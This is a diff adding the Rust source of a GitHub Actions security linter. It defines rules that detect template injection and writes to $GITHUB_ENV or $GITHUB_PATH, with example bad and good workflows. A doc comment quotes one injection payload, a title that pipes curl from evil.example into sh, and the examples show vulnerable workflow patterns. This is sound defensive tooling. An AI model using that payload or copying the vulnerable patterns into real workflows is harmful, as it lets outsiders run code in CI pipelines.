@@ -1,0 +1,346 @@
+//! Attacker's text where code is expected: in scripts, and in the files that set variables for later steps.
+//!
+//! Decided by the contexts that flow into the text and by who writes them. It cannot know what a step's output or a
+//! variable holds that an earlier step sets while it runs; those give no finding, but for outputs of tabled actions.
+
+use portcullis_model::actions::{InputKind, Shell, Step, Taint, Usage, Workflow, taint};
+use portcullis_syntax::expression::{Path, fences};
+use portcullis_syntax::shell::{Command, RedirectKind};
+
+use super::{ActionsCheck, Scope, fixes};
+use crate::rule::prelude::*;
+
+/// The rules of this file.
+pub(super) static RULES: &[&Rule] = &[&TEMPLATE_INJECTION, &GITHUB_ENV_INJECTION];
+
+/// Inputs of actions that are run as code.
+const SINKS: &[(&str, &[&str])] = &[
+    ("8398a7/action-slack", &["custom_payload"]),
+    ("actions/github-script", &["script"]),
+    ("addnab/docker-run-action", &["options", "run"]),
+    ("amadevus/pwsh-script", &["script"]),
+    ("appleboy/ssh-action", &["script"]),
+    ("azure/cli", &["inlineScript"]),
+    ("azure/powershell", &["inlineScript"]),
+    ("cardinalby/js-eval-action", &["expression"]),
+    ("devorbitus/yq-action-output", &["cmd"]),
+    ("gautamkrishnar/blog-post-workflow", &["item_exec"]),
+    ("jannekem/run-python-script-action", &["script"]),
+    ("mikefarah/yq", &["cmd"]),
+    ("sergeysova/jq-action", &["cmd"]),
+    ("skitionek/notify-microsoft-teams", &["overwrite"]),
+];
+
+/// Outputs that carry names of files or branches of a pull request.
+const TAINTED_OUTPUTS: &[(&str, &[&str])] = &[
+    (
+        "tj-actions/changed-files",
+        &["all_changed_files", "added_files", "modified_files", "all_modified_files", "deleted_files", "renamed_files"],
+    ),
+    ("jitterbit/get-changed-files", &["all", "added", "modified", "removed", "renamed", "added_modified"]),
+    ("trilom/file-changes-action", &["files", "files_added", "files_modified", "files_removed"]),
+    ("tj-actions/branch-names", &["current_branch", "head_ref_branch", "ref_branch"]),
+    ("xt0rted/pull-request-comment-branch", &["head_ref"]),
+    ("alessbell/pull-request-comment-branch", &["head_ref"]),
+    ("potiuk/get-workflow-origin", &["sourceHeadBranch"]),
+];
+
+rule! {
+    /// Text that an attacker chooses becomes code
+    ///
+    /// `${{ }}` is replaced before the shell, or the action that runs its input as code, sees the script: a title such as
+    /// `"; curl evil.example | sh; "` is then part of it. Looks at `run:` and at inputs that actions run, at contexts that
+    /// outsiders fill in, at inputs that hold any text, and follows `env` and `matrix` to what the file gives them. Silent on
+    /// numbers, hashes, results of steps, comparisons, literals, and values that cannot be known.
+    ///
+    /// ```workflow bad:8
+    /// on: issues
+    /// jobs:
+    ///   greet:
+    ///     runs-on: ubuntu-latest
+    ///     steps:
+    ///       - run: |
+    ///           echo "${{ github.sha }}"
+    ///           echo "${{ github.event.issue.title }}"
+    /// ```
+    /// ```workflow bad:9
+    /// on: pull_request
+    /// env:
+    ///   BRANCH: ${{ github.head_ref }}
+    /// jobs:
+    ///   greet:
+    ///     runs-on: ubuntu-latest
+    ///     steps:
+    ///       - uses: actions/github-script@v7
+    ///         with: { script: "console.log('${{ env.BRANCH }}')" }
+    /// ```
+    /// ```action bad:9
+    /// name: greet
+    /// description: greets
+    /// inputs:
+    ///   who: { description: whom }
+    /// runs:
+    ///   using: composite
+    ///   steps:
+    ///     - shell: bash
+    ///       run: echo "${{ inputs.who }}"
+    /// ```
+    /// ```workflow good
+    /// on: [pull_request, push]
+    /// env: { REGION: us-west-2 }
+    /// jobs:
+    ///   greet:
+    ///     strategy: { matrix: { version: [1, 2] } }
+    ///     runs-on: ubuntu-latest
+    ///     steps:
+    ///       - id: build
+    ///         env: { TITLE: "${{ github.event.pull_request.title }}" }
+    ///         run: echo "$TITLE"
+    ///       - run: echo ${{ github.sha }} ${{ env.REGION }} ${{ matrix.version }} ${{ steps.build.outcome }}
+    ///       - run: echo ${{ github.event.pull_request.title == 'x' && 'a' || 'b' }} ${{ github.event.number }}
+    /// ```
+    TEMPLATE_INJECTION = "actions-template-injection" {
+        check: Check::Actions(ActionsCheck::Expression(template_injection)),
+        severity: Severity::High,
+        tags: &["cwe-94"],
+        peers: &[
+            "zizmor:template-injection",
+            "checkov:CKV_GHA_2",
+            "scorecard:Dangerous-Workflow",
+            "poutine:injection",
+            "kics:20f14e1a",
+            "kics:62ff6823",
+        ],
+    }
+}
+
+fn template_injection(usage: &Usage<'_>, scope: Scope<'_, '_>, report: &mut Report<'_>) {
+    let Some(step) = usage.step.and_then(|index| scope.steps().get(index)) else { return };
+    let Some(sink) = sink(step, usage.node) else { return };
+    let Some(expr) = usage.expr() else { return };
+    for (source, path) in expr.sources() {
+        let Some(found) = trace(&path, step, scope, 0) else { continue };
+        let written = usage.text_of(source);
+        let through = if found.path == path.to_string() { String::new() } else { format!(" (`{}`)", found.path) };
+        let draft = report.at(usage.place_of(source), format!("`{written}`{through} becomes part of {sink}"));
+        draft.confidence(found.confidence).help(match step.run {
+            Some(_) => "hand it to the step in `env:` and read it as a quoted variable",
+            None => "hand it to the step in `env:` and read it from the environment",
+        });
+        let is_bourne = matches!(step.shell, Shell::Bourne(_));
+        if let Some(fix) = fixes::by_environment(usage, &path, step).filter(|_| is_bourne) {
+            draft.fix(fix);
+        }
+    }
+}
+
+/// What a scalar of a step is run as, if it is.
+fn sink(step: &Step<'_>, node: Node<'_>) -> Option<&'static str> {
+    if step.run == Some(node) {
+        return Some(if step.shell == Shell::Python { "the Python script" } else { "the script" });
+    }
+    let uses = step.uses?;
+    let (_, inputs) = SINKS.iter().find(|(action, _)| uses.is(action))?;
+    inputs.iter().any(|input| step.input(input) == Some(node)).then_some("code that the action runs")
+}
+
+/// A context that an attacker writes, and how sure that is.
+struct Found {
+    path: String,
+    confidence: Confidence,
+}
+
+/// Variables and steps that are looked through for a name.
+const MAX_VARIABLES: usize = 500;
+
+/// How often `env` and `matrix` are followed.
+const MAX_HOPS: u8 = 4;
+
+fn trace(path: &Path, step: &Step<'_>, scope: Scope<'_, '_>, hops: u8) -> Option<Found> {
+    let found = |confidence| Some(Found { path: path.to_string(), confidence });
+    match taint(path) {
+        Taint::Fixed => None,
+        Taint::Arbitrary if path.is("github.ref") || path.is("github.ref_name") => {
+            let is_open = scope.workflow().is_none_or(has_open_ref);
+            if is_open { found(Confidence::Medium) } else { None }
+        }
+        Taint::Arbitrary => found(Confidence::High),
+        Taint::Structured => found(Confidence::Medium),
+        Taint::Unknown if hops >= MAX_HOPS => None,
+        Taint::Unknown => match path.root() {
+            "inputs" => input(path.name(1), scope).and_then(found),
+            "github" => input(path.name(3), scope).and_then(found),
+            "env" => {
+                let holders =
+                    [Some(step.node), scope.job().map(|job| job.node), scope.workflow().map(|file| file.root)];
+                let value = holders.into_iter().flatten().find_map(|holder| {
+                    let env = holder.get("env").present()?;
+                    env.entries().take(MAX_VARIABLES).find(|(key, _)| key.text().eq_ignore_ascii_case(path.name(1)))
+                });
+                value.and_then(|(_, value)| trace_text(value.text(), step, scope, hops))
+            }
+            "matrix" => matrix_values(path, scope).into_iter().find_map(|text| trace_text(text, step, scope, hops)),
+            "steps" => {
+                let earlier = scope.steps().iter().take(MAX_VARIABLES).find(|step| {
+                    step.get("id").present().is_some_and(|id| id.text().eq_ignore_ascii_case(path.name(1)))
+                });
+                let uses = earlier?.uses?;
+                let (_, outputs) = TAINTED_OUTPUTS.iter().find(|(action, _)| uses.is(action))?;
+                let is_tainted = outputs.iter().any(|output| output.eq_ignore_ascii_case(path.name(3)));
+                if is_tainted { found(Confidence::Medium) } else { None }
+            }
+            _ => None,
+        },
+    }
+}
+
+fn trace_text(text: &str, step: &Step<'_>, scope: Scope<'_, '_>, hops: u8) -> Option<Found> {
+    let hops = hops.saturating_add(1);
+    fences(text).filter_map(|fence| fence.expr.ok()).find_map(|expr| {
+        let sources = expr.sources();
+        sources.iter().find_map(|(_, path)| trace(path, step, scope, hops))
+    })
+}
+
+/// How sure it is that an input carries code; whoever dispatches a workflow may write to the repository already.
+fn input(name: &str, scope: Scope<'_, '_>) -> Option<Confidence> {
+    let inputs = scope.inputs();
+    let declared = inputs.iter().find(|input| input.name.eq_ignore_ascii_case(name))?;
+    (declared.kind == InputKind::Text).then_some(Confidence::Medium)
+}
+
+/// The texts that the file gives to a matrix key.
+fn matrix_values<'t>(path: &Path, scope: Scope<'_, 't>) -> Vec<&'t str> {
+    let mut texts = Vec::new();
+    let values = scope.job().map(|job| job.matrix_values(path.name(1))).unwrap_or_default();
+    for value in values {
+        scalars(value, 0, &mut texts);
+    }
+    texts
+}
+
+fn scalars<'t>(node: Node<'t>, depth: u8, texts: &mut Vec<&'t str>) {
+    if node.is_list() || node.is_map() {
+        if depth < 8 {
+            for item in node.items() {
+                scalars(item, depth.saturating_add(1), texts);
+            }
+            for (_, value) in node.entries() {
+                scalars(value, depth.saturating_add(1), texts);
+            }
+        }
+    } else {
+        texts.push(node.text());
+    }
+}
+
+/// Whether `github.ref` can be a name that somebody makes up. A pull request's is its number, a schedule's the default
+/// branch, and a push to branches that are listed one of those.
+fn has_open_ref(workflow: &Workflow<'_>) -> bool {
+    workflow.triggers.is_empty()
+        || workflow.triggers.iter().any(|trigger| match trigger.name {
+            "push" => {
+                let get = |key: &str| trigger.config.and_then(|config| config.get(key).present());
+                let is_literal = |node: Node<'_>| {
+                    portcullis_model::actions::one_or_many(node)
+                        .iter()
+                        .all(|pattern| !pattern.text().contains(['*', '?', '[', '!', '$', '+']))
+                };
+                let filters = [get("branches"), get("tags")];
+                let filtered = filters.iter().flatten().count() > 0;
+                !filtered || filters.into_iter().flatten().any(|node| !is_literal(node))
+            }
+            "create" | "delete" | "workflow_dispatch" | "workflow_call" | "release" | "registry_package"
+            | "deployment" | "deployment_status" | "merge_group" => true,
+            _ => false,
+        })
+}
+
+rule! {
+    /// Data from outside is written to the environment of later steps
+    ///
+    /// A line in `$GITHUB_ENV` sets any variable of the steps that follow, `LD_PRELOAD` and `NODE_OPTIONS` among them, and one
+    /// in `$GITHUB_PATH` replaces their programs. Looks at workflows that outsiders set off with secrets at hand, and at what
+    /// scripts write there; a text without variables is fine.
+    ///
+    /// ```workflow bad:6
+    /// on: pull_request_target
+    /// jobs:
+    ///   label:
+    ///     runs-on: ubuntu-latest
+    ///     steps:
+    ///       - run: echo "TITLE=$TITLE" >> "$GITHUB_ENV"
+    ///         env: { TITLE: "${{ github.event.pull_request.title }}" }
+    /// ```
+    /// ```workflow good
+    /// on: pull_request_target
+    /// jobs:
+    ///   label:
+    ///     runs-on: ubuntu-latest
+    ///     steps:
+    ///       - run: echo "MODE=fast" >> $GITHUB_ENV
+    ///       - run: echo "title=$TITLE" >> $GITHUB_OUTPUT
+    /// ```
+    GITHUB_ENV_INJECTION = "actions-github-env-injection" {
+        check: Check::Actions(ActionsCheck::Step(github_env_injection)),
+        severity: Severity::High,
+        confidence: Confidence::Medium,
+        tags: &["cwe-74"],
+        peers: &["zizmor:github-env", "kics:github_env_injection"],
+    }
+}
+
+fn github_env_injection(step: &Step<'_>, scope: Scope<'_, '_>, report: &mut Report<'_>) {
+    let Some(workflow) = scope.workflow() else { return };
+    let text = step.run.map_or("", Node::text);
+    if !text.contains("GITHUB_ENV") && !text.contains("GITHUB_PATH") || workflow.privileged_triggers().next().is_none()
+    {
+        return;
+    }
+    let Some(script) = step.script().or_else(|| step.foreign_script()) else { return };
+    for (index, command) in script.shell.commands.iter().enumerate() {
+        let Some(file) = written_file(command) else { continue };
+        let piped = command.pipe.filter(|pipe| pipe.index > 0).map(|pipe| pipe.pipeline);
+        let feeds = script.shell.commands.iter().take(index).filter(|other| {
+            other.pipe.is_some_and(|pipe| Some(pipe.pipeline) == piped) && other.substitution == command.substitution
+        });
+        let is_dynamic = match piped {
+            Some(_) => feeds.clone().any(is_dynamic),
+            None => is_dynamic(command),
+        };
+        if is_dynamic {
+            let spot = (command.span, "environment file");
+            report
+                .at(spot, format!("what is not known beforehand is written to `{file}`, in a workflow for outsiders"))
+                .help("write it to `$GITHUB_OUTPUT`, and hand it to the steps that need it by `env:`");
+        }
+    }
+}
+
+/// The environment file that a command writes to.
+fn written_file(command: &Command) -> Option<&'static str> {
+    let file = |text: &str| ["GITHUB_ENV", "GITHUB_PATH"].into_iter().find(|name| text.contains(*name));
+    let writes = |kind| {
+        matches!(kind, RedirectKind::Write | RedirectKind::Append | RedirectKind::WriteBoth | RedirectKind::AppendBoth)
+    };
+    let mut redirected = command.redirects.iter().filter(|redirect| writes(redirect.kind));
+    let redirected = redirected.find_map(|redirect| file(&redirect.target.text));
+    redirected.or_else(|| {
+        let is_tee = command.is_any(&["tee", "sponge"]);
+        command.args.iter().filter(|_| is_tee).find_map(|word| file(&word.text))
+    })
+}
+
+/// Whether the output of a command is more than a text that stands in the script.
+fn is_dynamic(command: &Command) -> bool {
+    let heredoc = command.redirects.iter().find_map(|redirect| redirect.heredoc.as_ref());
+    match (command.program(), heredoc) {
+        (Some("cat"), Some(heredoc)) => !heredoc.quoted && heredoc.body.contains(['$', '`']),
+        (Some("echo" | "printf"), _) => {
+            // `%NAME%` is a variable to cmd.
+            command.args.iter().any(|word| word.has_expansion || word.text.matches('%').count() > 1)
+        }
+        (None, _) => false,
+        (Some(_), _) => true,
+    }
+}
